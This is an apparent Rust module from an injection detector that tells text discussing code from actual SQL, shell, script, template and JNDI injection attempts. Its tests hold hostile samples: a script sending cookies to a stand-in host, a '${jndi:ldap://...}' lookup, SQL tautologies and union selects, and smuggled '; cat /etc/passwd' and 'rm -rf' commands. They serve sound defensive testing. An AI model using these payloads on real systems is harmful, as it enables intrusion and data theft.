//! Texts in which people speak about code: a ticket quotes a query, a comment shows markup. Code in the middle of sentences is
//! what somebody writes about; it is an attempt where it is built to break out, or where the answer has its effect.

use super::{AttemptKind, name_words};

/// Words in a row from which on they are a sentence.
const SENTENCE: usize = 4;
/// Words in front of the mark that ends an argument, from which on they are a command line of their own: what breaks out of an
/// argument stands right behind it.
const COMMAND_LINE: usize = 4;
/// Letters in one word that make it as good as a sentence, of scripts that do not part their words.
const WRITTEN: usize = 8;
/// Words that are SQL's or a shell's as well, and end a row of words.
const CODE: &[&[u8]] = &[
    b"select",
    b"from",
    b"case",
    b"when",
    b"then",
    b"else",
    b"where",
    b"union",
    b"order",
    b"group",
    b"by",
    b"having",
    b"limit",
    b"values",
    b"insert",
    b"into",
    b"update",
    b"set",
    b"delete",
    b"drop",
    b"table",
    b"database",
    b"exec",
    b"null",
    b"like",
    b"join",
    b"sleep",
    b"waitfor",
    b"delay",
    b"cat",
    b"echo",
    b"curl",
    b"wget",
    b"rm",
    b"ls",
    b"ping",
    b"sh",
    b"bash",
];

/// What people write into a field, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Holds {
    /// A name, an identifier, a code: no sentence at all.
    Word,
    /// Sentences are what it is for.
    Text,
    /// Nobody knows: a search, a title.
    Anything,
}

/// Whether a text of this kind, in a field of that name, speaks about code rather than being some.
pub(super) fn is_about(kind: AttemptKind, text: &[u8], name: &str) -> bool {
    match (kind, holds(name)) {
        // Lines of a head and operators of a query stand in no sentence; and a sentence in front of what stands where none
        // belongs is there to hide it.
        (AttemptKind::Line | AttemptKind::NoSql, _) | (_, Holds::Word) => false,
        (AttemptKind::Ldap, _) => text.trim_ascii().iter().any(u8::is_ascii_whitespace),
        // Whatever is logged is looked up, and nobody searches for a lookup.
        (AttemptKind::Lookup, holds) => holds == Holds::Text && has_sentence(text),
        (AttemptKind::Sql, _) => !cuts_off(text) && !leaves_open(text) && has_sentence(text),
        (AttemptKind::Command, _) => has_sentence(text) || is_command_line(text),
        _ => has_sentence(text),
    }
}

fn holds(name: &str) -> Holds {
    const LAST: &[&str] =
        &["id", "uid", "uuid", "name", "code", "pin", "otp", "key", "zip", "iban", "date", "url", "uri"];
    const TEXTS: &[&str] = &[
        "text",
        "comment",
        "comments",
        "body",
        "message",
        "description",
        "note",
        "notes",
        "content",
        "feedback",
        "review",
        "question",
        "answer",
        "reply",
        "remark",
        "remarks",
        "reason",
        "details",
        "summary",
        "bio",
        "about",
        "prompt",
        "instructions",
    ];
    const PERSONS: &[&str] = &["user", "login", "mail", "pass", "pwd", "phone", "token", "name"];
    let words = name_words(name);
    let is_text = words.iter().any(|word| TEXTS.contains(&word.as_str()));
    match words.last() {
        Some(last) if LAST.contains(&last.as_str()) => Holds::Word,
        _ if is_text => Holds::Text,
        _ if words.iter().any(|word| PERSONS.iter().any(|person| word.contains(person))) => Holds::Word,
        _ => Holds::Anything,
    }
}

/// Whether a comparison ends in a text that is not closed: the statement around it has the quote that closes it.
fn leaves_open(text: &[u8]) -> bool {
    let text = text.trim_ascii_end();
    let Some(quote) = text.iter().rposition(|byte| matches!(byte, b'\'' | b'"')) else { return false };
    let (before, within) = text.split_at_checked(quote).unwrap_or((text, b""));
    let is_open = within.iter().skip(1).all(|byte| byte.is_ascii_alphanumeric() || b"_%.@-".contains(byte));
    let before = before.trim_ascii_end();
    is_open && (before.ends_with(b"like") || before.last().is_some_and(|byte| b"=<>".contains(byte)))
}

fn cuts_off(text: &[u8]) -> bool {
    let text = text.trim_ascii_end();
    [&b"--"[..], b"--+", b"-- -", b"#", b"/*", b"--;"].iter().any(|end| text.ends_with(end))
}

fn has_sentence(text: &[u8]) -> bool {
    let (mut row, mut listed) = (0, false);
    text.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()).any(|token| {
        if !token.is_ascii() && String::from_utf8_lossy(token).chars().filter(is_unparted).count() >= WRITTEN
        {
            return true;
        }
        let in_list = token.ends_with(b",");
        // Of names that commas part, two in a row are a list and no sentence.
        row = if is_word(token) && !(listed && in_list) { row + 1 } else { 0 };
        listed = in_list;
        row >= SENTENCE
    })
}

/// Whether a letter is of a script that does not part its words: Thai, Lao, Burmese, Khmer, Japanese, Chinese.
const fn is_unparted(letter: &char) -> bool {
    matches!(letter,
        '\u{e00}'..='\u{eff}' | '\u{1000}'..='\u{109f}' | '\u{1780}'..='\u{17ff}' | '\u{3040}'..='\u{30ff}'
        | '\u{3400}'..='\u{9fff}' | '\u{f900}'..='\u{faff}' | '\u{20000}'..='\u{3ffff}')
}

/// Letters, with what stands around and within words.
fn is_word(token: &[u8]) -> bool {
    let is_letter = |byte: &u8| byte.is_ascii_alphabetic() || !byte.is_ascii();
    let end = token
        .iter()
        .rposition(|byte| !matches!(byte, b'?' | b'!' | b',' | b'.' | b':'))
        .map_or(0, |at| at + 1);
    let inner = token.get(..end).unwrap_or_default();
    inner.first().is_some_and(is_letter)
        && inner.iter().all(|byte| is_letter(byte) || matches!(byte, b'\'' | b'-'))
        && !CODE.contains(&inner)
}

/// Whether a whole command line stands in front of the first mark that would end an argument.
fn is_command_line(text: &[u8]) -> bool {
    let end = text.iter().position(|byte| matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n'));
    let before = end.and_then(|end| text.get(..end)).unwrap_or_default();
    before.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()).count() >= COMMAND_LINE
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_told_from_code() {
        for text in [
            "why does <script>alert(1)</script> show up in my page?",
            "<img src=x onerror=alert(1)> came with the mail of yesterday",
            "{{7*7}} is what our template shows",
            "请问这个模板为什么显示{{7*7}}",
        ] {
            assert!(is_about(AttemptKind::Template, text.as_bytes(), "q"), "{text}");
        }
        for text in [
            "<script>document.location='//x.test/?c='+document.cookie</script>",
            "jane <img src=x onerror=alert(1)>",
            "{{config.items()}}",
            "спасибобольшое<script>alert(1)</script>",
        ] {
            assert!(!is_about(AttemptKind::Script, text.as_bytes(), "text"), "{text}");
        }
    }

    #[test]
    fn what_cuts_a_statement_off_is_an_attack_behind_any_sentence() {
        let sentence = "many thanks for all of this";
        let about = |text: &str| is_about(AttemptKind::Sql, text.as_bytes(), "q");
        assert!(about(&format!("{sentence} union select 1,2 from x")));
        assert!(!about(&format!("{sentence}' or 1=1--")));
        assert!(!about(&format!("{sentence}' union select a,b from c where '1'='1")));
        assert!(about(&format!("{sentence}: where name = 'smith' finds nobody")));
        let query = b"1 union select name, mail, phone, street, city from users where role like 5";
        assert!(!is_about(AttemptKind::Sql, query, "q"));
    }

    #[test]
    fn a_pasted_command_line_is_told_from_an_argument_that_ends() {
        let about = |text: &[u8]| is_about(AttemptKind::Command, text, "text");
        assert!(about(b"tar -xf /tmp/a.tar -c /srv; rm -rf /tmp/a.tar"));
        assert!(!about(b"report.pdf; rm -rf /tmp/a.tar"));
        assert!(!about(b"jane doe; cat /etc/passwd"));
    }

    #[test]
    fn a_sentence_hides_nothing_where_none_belongs() {
        let lookup = "please have a look at ${jndi:ldap://x.test/a}".as_bytes();
        let sql = "please let me in admin' or 1 = 1 and more of that".as_bytes();
        for (name, code, words) in [
            ("text", true, true),
            ("userComment", true, true),
            ("q", false, true),
            ("context", false, true),
            ("name", false, false),
            ("loginName", false, false),
            ("comment_id", false, false),
            ("EMail", false, false),
        ] {
            assert_eq!(is_about(AttemptKind::Lookup, lookup, name), code, "{name}");
            assert_eq!(is_about(AttemptKind::Sql, sql, name), words, "{name}");
        }
    }
}
